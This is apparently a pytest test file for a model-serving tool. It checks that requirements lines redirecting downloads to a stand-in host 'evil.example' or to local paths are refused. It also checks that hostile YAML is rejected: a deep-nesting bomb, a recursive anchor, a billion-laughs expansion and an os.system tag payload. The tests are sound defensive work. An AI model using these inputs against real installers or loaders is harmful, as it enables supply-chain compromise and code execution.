"""Hostile requirements: a model may not choose where --env-manager uv downloads code from."""

from __future__ import annotations

import pytest

from saveur.environment import envmanager
from saveur.errors import EnvironmentBuildError


def _model_dir(tmp_path, requirements):
    model = tmp_path / "model"
    model.mkdir()
    (model / "requirements.txt").write_text("\n".join(requirements) + "\n")
    (model / "python_env.yaml").write_text("python: 3.11.7\nbuild_dependencies:\n- pip\n")
    (model / "MLmodel").write_text(
        "flavors:\n  python_function:\n    loader_module: saveur_echo\n    data: echo.json\n"
        "  echo:\n    data: echo.json\n"
    )
    return model


@pytest.mark.parametrize(
    ("line", "what"),
    [
        ("--index-url https://evil.example/simple", "a pip option"),
        ("-i https://evil.example/simple", "a pip option"),
        ("--extra-index-url https://evil.example/simple", "a pip option"),
        ("--find-links /tmp/evil-wheels", "a pip option"),
        ("--trusted-host evil.example", "a pip option"),
        ("-e ./src", "a pip option"),
        ("-e git+https://evil.example/x.git#egg=x", "a pip option"),
        ("numpy @ https://evil.example/numpy-9.9.tar.gz", "a direct URL"),
        ("x @ file:///tmp/evil", "a direct URL"),
        ("git+https://evil.example/x.git", "a path, URL or malformed requirement"),
        ("./evil_pkg", "a path, URL or malformed requirement"),
        ("/tmp/evil_pkg", "a path, URL or malformed requirement"),
        ("https://evil.example/x.whl", "a path, URL or malformed requirement"),
    ],
)
def test_requirements_that_choose_a_code_source_are_refused(tmp_path, line, what):
    model = _model_dir(tmp_path, ["numpy==2.4.6", line])
    with pytest.raises(EnvironmentBuildError, match=f"has '.*', {what}: --env-manager uv"):
        envmanager.plan_env(model)


def test_named_requirements_with_markers_and_extras_are_kept(tmp_path):
    lines = ["numpy==2.4.6", "pandas[pyarrow]>=2; python_version >= '3.10'", "scipy"]
    plan = envmanager.plan_env(_model_dir(tmp_path, lines), extras=())
    assert plan.index_requirements == lines


@pytest.mark.parametrize(
    ("text", "message"),
    [
        # saveur's depth check or libyaml's own (newer releases): the file is named either way
        ("python: " + "[" * 50_000 + "]" * 50_000 + "\n", r"(python_env|conda)\.yaml"),
        ("a: &r [*r]\n", "refers to a node that contains it"),
        (
            "a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n"
            + "".join(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]\n" for i in range(1, 9)),
            "aliases expand",
        ),
        ("python: !!python/object/apply:os.system ['echo pwned']\n", "is not valid YAML"),
    ],
    ids=["deep", "recursive", "laughs", "python-tag"],
)
def test_hostile_env_yaml_is_an_environment_error(tmp_path, text, message):
    from saveur.environment import read_python_env, read_requirements

    model = _model_dir(tmp_path, ["numpy"])
    (model / "python_env.yaml").write_text(text)
    (model / "requirements.txt").unlink()
    (model / "conda.yaml").write_text(text.replace("python:", "dependencies:"))
    with pytest.raises(EnvironmentBuildError, match=message):
        read_python_env(model)
    with pytest.raises(EnvironmentBuildError, match=message):
        read_requirements(model)
